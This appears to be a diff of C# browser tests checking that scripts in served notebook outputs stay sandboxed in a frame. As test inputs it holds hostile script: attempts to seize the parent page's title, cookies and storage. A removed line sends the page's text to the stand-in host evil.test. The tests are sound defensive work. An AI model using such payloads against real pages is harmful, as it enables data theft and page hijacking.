@@ -1,19 +1,16 @@
 using System.Text.Json.Nodes;
 using Browsing;
+using Course.Tests.Components;
 
 namespace Course.Tests.Serving;
 
 /// <summary>Outputs of a notebook on the served page, in a real browser, under the policy that every answer has.</summary>
-public sealed class ServedOutputsTests(Browser browser) : IClassFixture<Browser>, IDisposable
+public sealed class ServedOutputsTests(Browser browser) : IClassFixture<Browser>
 {
-    private readonly NotebookFolder _folder = new();
-
-    public void Dispose() => _folder.Dispose();
-
     [Fact]
     public async Task A_script_of_an_output_runs_in_a_frame_and_reaches_neither_page_nor_server()
     {
-        await using var course = await StartAsync(
+        await using var tab = await OpenAsync(
             """
             <p id="x"></p><div style="height:700px"></div>
             <script>
@@ -22,36 +19,27 @@ public sealed class ServedOutputsTests(Browser browser) : IClassFixture<Browser>
               attempt('page', () => parent.document.title = 'taken');
               attempt('cookie', () => document.cookie = 'a=b');
               attempt('storage', () => localStorage.setItem('theme', 'dark'));
-              fetch('/lessons/a/notebook').then(() => tries.push('server done'), () => tries.push('server refused')).then(() => x.textContent = tries.join(', '));
+              fetch('/lessons/trial/notebook').then(() => tries.push('server done'), () => tries.push('server refused')).then(() => x.textContent = tries.join(', '));
             </script>
             """);
-        await using var page = await browser.OpenAsync(1280);
-        await OpenAsync(page, course);
-        var frame = page.Raw.FrameLocator("iframe.frame");
+        var frame = tab.Page.FrameLocator("iframe.frame");
         await frame.GetByText("server").WaitForAsync();
         Assert.Equal("origin null, page refused, cookie refused, storage refused, server refused", await frame.Locator("#x").TextContentAsync());
-        await page.Raw.WaitForFunctionAsync("document.querySelector('iframe.frame').offsetHeight > 700");
-        Assert.NotEqual("taken", await page.Raw.TitleAsync());
+        await tab.Page.WaitForFunctionAsync("document.querySelector('iframe.frame')?.offsetHeight > 700");
+        Assert.NotEqual("taken", await tab.Page.TitleAsync());
     }
 
     [Fact]
     public async Task A_frame_cannot_leave_for_another_site()
     {
-        await using var course = await StartAsync("<p>here</p><script>location = 'http://evil.test/?' + document.body.textContent</script>");
-        await using var page = await browser.OpenAsync(1280);
-        await page.Raw.RunAndWaitForConsoleMessageAsync(
-            () => OpenAsync(page, course),
+        await using var tab = await OpenAsync("<button onclick=\"location = 'http://evil.test/'\">Leave</button>");
+        await tab.Page.RunAndWaitForConsoleMessageAsync(
+            () => tab.Page.FrameLocator("iframe.frame").GetByText("Leave").ClickAsync(),
             new() { Predicate = message => message.Text.Contains("evil.test", StringComparison.Ordinal) && message.Text.Contains("frame-src", StringComparison.Ordinal) });
-        Assert.DoesNotContain(page.Requests, request => request.StartsWith("http://evil.test", StringComparison.Ordinal));
+        Assert.Empty(tab.ForeignRequests);
     }
 
-    private static async Task OpenAsync(Page page, ServedCourse course)
-    {
-        await page.Raw.GotoAsync(course.Server.Link(course.Server.Keys.Token).AbsoluteUri);
-        await page.Raw.GotoAsync(new Uri(course.Server.Address, "/lessons/a").AbsoluteUri);
-    }
-
-    private Task<ServedCourse> StartAsync(string html)
+    private Task<LessonTab> OpenAsync(string html)
     {
         var output = new JsonObject
         {
@@ -59,7 +47,6 @@ public sealed class ServedOutputsTests(Browser browser) : IClassFixture<Browser>
             ["metadata"] = new JsonObject(),
             ["data"] = new JsonObject { ["text/html"] = html },
         };
-        File.WriteAllText(_folder.File("a.ipynb"), NotebookFolder.Json([NotebookFolder.Code("a", "1", output)]).ToJsonString());
-        return ServedCourse.StartAsync(_folder.Path, letIn: false);
+        return LessonTab.OpenAsync(browser, [NotebookFolder.Code("a", "1", output)]);
     }
 }
